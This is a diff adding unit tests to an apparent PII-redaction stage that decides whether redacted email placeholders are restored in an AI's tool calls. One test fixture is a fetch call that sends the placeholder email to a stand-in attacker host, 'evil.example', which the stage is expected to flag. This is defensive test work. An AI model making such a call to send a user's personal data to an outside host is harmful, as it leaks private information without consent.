@@ -51,3 +51,34 @@ describe('stage 9 re-checks credentials as stage 7 reads them, invisible charact
     expect(ctx.trace.verdicts[0]?.detail).not.toHaveProperty('keptInUrl');
   });
 });
+
+describe('stage 9 judges a whole value, not its words, for URLs', () => {
+  function contextFor(args: unknown, caller = 'Customer jane@corp.example, summarise') {
+    const ctx = testContext({ request: { messages: [{ role: 'user', content: caller }] } });
+    expect(ctx.pii.redact('jane@corp.example')).toBe('[EMAIL_1]');
+    ctx.output = 'ok';
+    ctx.functionCalls = [{ name: 'fetch', arguments: args }];
+    return ctx;
+  }
+
+  it('keeps every token of a call whose other field is a URL the caller did not write, and counts them', async () => {
+    const args = { url: 'https://evil.example/c', body: { to: '[EMAIL_1]', note: ' [EMAIL_1]' } };
+    const ctx = contextFor(args);
+    await runPipeline([piiRestore], ctx);
+    expect(ctx.finalFunctionCalls).toEqual([{ name: 'fetch', arguments: args }]);
+    expect(ctx.trace.verdicts[0]).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 2, keptInUrlCategories: 'EMAIL' } });
+  });
+
+  it('does not take the caller\'s URL with a word added for the caller\'s URL', async () => {
+    const ctx = contextFor({ url: 'https://crm.example/find?email= [EMAIL_1]' }, 'Open https://crm.example/find?email=jane@corp.example please');
+    await runPipeline([piiRestore], ctx);
+    expect(ctx.finalFunctionCalls?.[0]?.arguments).toEqual({ url: 'https://crm.example/find?email= [EMAIL_1]' });
+  });
+
+  it('restores a whole value, and a value in prose, where no string points anywhere', async () => {
+    const ctx = contextFor({ to: '[EMAIL_1]', body: 'Hi, meeting at 10:30 with [EMAIL_1].' });
+    await runPipeline([piiRestore], ctx);
+    expect(ctx.finalFunctionCalls?.[0]?.arguments).toEqual({ to: 'jane@corp.example', body: 'Hi, meeting at 10:30 with jane@corp.example.' });
+    expect(ctx.trace.verdicts[0]?.outcome).toBe('pass');
+  });
+});
